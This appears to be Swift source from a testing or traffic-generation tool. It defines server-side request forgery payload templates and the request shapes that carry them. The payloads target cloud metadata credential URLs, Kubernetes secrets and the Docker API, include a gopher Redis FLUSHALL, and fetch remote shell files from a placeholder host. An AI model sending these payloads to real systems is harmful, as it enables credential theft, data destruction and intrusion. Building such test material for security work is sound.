/// Makes the server fetch what only it can reach, or what the attacker serves.
enum RequestForgery {
    static let payloads = Template.list(
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:{marker}/admin",
        "http://localhost/server-status", "http://[::1]:{marker}/", "http://0x7f000001/",
        "http://2130706433/",
        "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "file:///{file}",
        "http://metadata.google.internal/computeMetadata/v1/", "http://{host}/shell.txt?",
        "http://{host}/r57.txt%00", "//{host}/%2e%2e", "http://www.example.com@{host}/",
        "http://10.0.0.{small}:{marker}/", "http://192.168.{digit}.{small}/config",
        "ftp://{host}/x.php",
        "http://127.1:{marker}/actuator/env", "https://{host}/?c={hash}", "ldap://{host}:1389/a",
        "http://kubernetes.default.svc/api/v1/secrets", "http://localhost:2375/containers/json")

    static let shapes = [
        RequestShape("GET", "/go", query: "url={payload}&ref={hash}", weight: 4),
        RequestShape("GET", "/go", query: "url={payload}", weight: 2),
        RequestShape("GET", "/login", query: "next={payload}", weight: 2),
        RequestShape("GET", "/", query: "page={payload}", weight: 2),
        RequestShape("GET", "/media/proxy", query: "src={payload}&w={number}", weight: 3),
        RequestShape(
            "POST", "/api/v1/import", json: #"{"feed":"{payload}","category":"{category}"}"#,
            weight: 2),
        RequestShape(
            "POST", "/api/v1/webhooks", json: #"{"url":"{payload}","events":["order"]}"#,
            weight: 2),
        RequestShape("POST", "/account/avatar", form: "url={payload}&csrf={token}"),
    ]
}
